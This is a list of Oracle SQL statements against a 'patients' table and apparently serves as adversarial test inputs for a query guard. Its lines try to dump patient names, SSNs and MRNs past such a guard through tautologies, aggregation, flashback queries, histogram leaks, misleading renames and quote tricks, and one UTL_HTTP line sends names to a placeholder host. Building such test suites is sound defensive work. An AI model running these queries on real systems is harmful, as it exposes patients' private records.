SELECT * FROM patients
SELECT /*+ FULL(p) */ * FROM patients p
SELECT * FROM "PATIENTS"
SELECT * FROM patients WHERE ROWNUM <= 1000
SELECT * FROM patients WHERE ROWNUM <= 10 OR 1 = 1
SELECT * FROM patients WHERE ROWNUM > 0
SELECT * FROM patients FETCH FIRST 10 PERCENT ROWS ONLY
SELECT * FROM patients FETCH FIRST 10 ROWS WITH TIES
SELECT LISTAGG(name, ',') WITHIN GROUP (ORDER BY name) FROM patients
SELECT XMLAGG(XMLELEMENT("p", name)) FROM patients
SELECT JSON_ARRAYAGG(name) FROM patients
SELECT wm_concat(name) FROM patients
SELECT name FROM patients CONNECT BY PRIOR patient_id = parent_id START WITH patient_id = 1
SELECT * FROM patients@remote
SELECT * FROM TABLE(all_patients())
SELECT all_patients() FROM dual
SELECT * FROM patients MINUS SELECT * FROM wards
SELECT dbms_xmlgen.getxml('select * from patients') FROM dual
BEGIN EXECUTE IMMEDIATE 'select 1'; END;
CALL p()
CREATE SYNONYM s FOR patients
CREATE TABLE t AS SELECT * FROM patients
SELECT endpoint_actual_value FROM all_tab_histograms
INSERT ALL INTO scratch VALUES (name) SELECT name FROM patients
SELECT * FROM patients AS OF TIMESTAMP SYSTIMESTAMP
SELECT * FROM patients FOR UPDATE
SELECT q'[x]', name FROM patients
SELECT * FROM wards, patients
MERGE INTO scratch s USING patients p ON (s.id = p.patient_id) WHEN NOT MATCHED THEN INSERT VALUES (p.name)
WITH patients AS (SELECT * FROM patients) SELECT * FROM patients
-- names that lie, ranges, and more of each kind
ALTER TABLE patients ADD (mrn VARCHAR2(5) DEFAULT 'x')
ALTER TABLE patients RENAME COLUMN name TO ward
ALTER TABLE patients RENAME COLUMN ward TO mrn
ALTER TABLE patients ADD (status AS (name || ssn))
ALTER TABLE patients RENAME TO stuff
RENAME patients TO stuff
SELECT * FROM patients WHERE patient_id BETWEEN 1 AND 100
SELECT * FROM patients WHERE mrn BETWEEN 'A' AND 'B'
SELECT * FROM (SELECT p.*, ROW_NUMBER() OVER (PARTITION BY mrn ORDER BY 1) rn FROM patients p) WHERE rn = 1
SELECT XMLAGG(XMLELEMENT("n", name)).getClobVal() FROM patients
SELECT DBMS_XMLGEN.GETXML('select * from patients') FROM dual
SELECT CURSOR(SELECT * FROM patients) FROM dual
SELECT COLLECT(name) FROM patients
SELECT * FROM patients AS OF TIMESTAMP SYSDATE - 1
SELECT * FROM patients VERSIONS BETWEEN SCN MINVALUE AND MAXVALUE
SELECT name FROM patients CONNECT BY LEVEL < 2
SELECT name FROM patients START WITH patient_id = 1 CONNECT BY PRIOR patient_id = patient_id - 1
SELECT SYS_CONNECT_BY_PATH(name, ',') FROM patients START WITH patient_id = 1 CONNECT BY PRIOR patient_id = patient_id - 1
SELECT UTL_HTTP.REQUEST('http://x/' || name) FROM patients WHERE patient_id = 1
BEGIN FOR r IN (SELECT * FROM patients) LOOP DBMS_OUTPUT.PUT_LINE(r.name); END LOOP; END;
EXECUTE IMMEDIATE 'select * from patients'
SELECT * FROM patients MODEL DIMENSION BY (mrn) MEASURES (name) RULES ()
SELECT * FROM patients MATCH_RECOGNIZE (ORDER BY mrn MEASURES A.name AS n PATTERN (A) DEFINE A AS 1 = 1)
SELECT low_value, high_value FROM all_tab_columns WHERE table_name = 'PATIENTS'
SELECT endpoint_actual_value FROM dba_tab_histograms
MERGE INTO patients t USING patients s ON (t.patient_id = s.patient_id) WHEN MATCHED THEN UPDATE SET t.ward = s.name
SELECT SUBSTR(email, INSTR(email, '@') * 0), COUNT(*) FROM patients GROUP BY SUBSTR(email, INSTR(email, '@') * 0)
SELECT name FROM "PATIENTS"
SELECT name FROM ehr.patients@remote
SELECT * FROM patients PARTITION (p1)
SELECT XMLQUERY('ora:view("PATIENTS")' RETURNING CONTENT) FROM dual
SELECT JSON_ARRAYAGG(name RETURNING CLOB) FROM patients
SELECT * FROM patients FETCH FIRST 50 PERCENT ROWS ONLY
SELECT * FROM patients OFFSET 5 ROWS
SELECT p.* FROM (SELECT LEVEL n FROM dual CONNECT BY LEVEL <= 10000) g, patients p WHERE p.patient_id = g.n
SELECT name FROM patients CONNECT BY PRIOR patient_id = patient_id - 1 START WITH patient_id = 1
SELECT * FROM patients SAMPLE (99)
SELECT * FROM (SELECT name, ward FROM patients) PIVOT (MAX(name) FOR ward IN ('ICU'))
SELECT * FROM patients UNPIVOT (val FOR col IN (name, ssn))
SELECT * FROM TABLE(DBMS_XPLAN.DISPLAY_CURSOR); SELECT * FROM patients
SELECT q'[patient_id = 1]' FROM patients
SELECT * FROM patients WHERE ward <> q'{' AND patient_id = 1 --}'
SELECT MODEL.name FROM patients MODEL DIMENSION BY (patient_id) MEASURES (name) RULES ()
SELECT * FROM patients MINUS SELECT * FROM patients WHERE patient_id = 1
INSERT ALL INTO wards (name) VALUES (name) SELECT name FROM patients
MERGE INTO wards w USING patients p ON (w.id = p.patient_id) WHEN NOT MATCHED THEN INSERT (name) VALUES (p.name)
SELECT p.* FROM patients p NATURAL JOIN (SELECT 1 AS one FROM dual) x
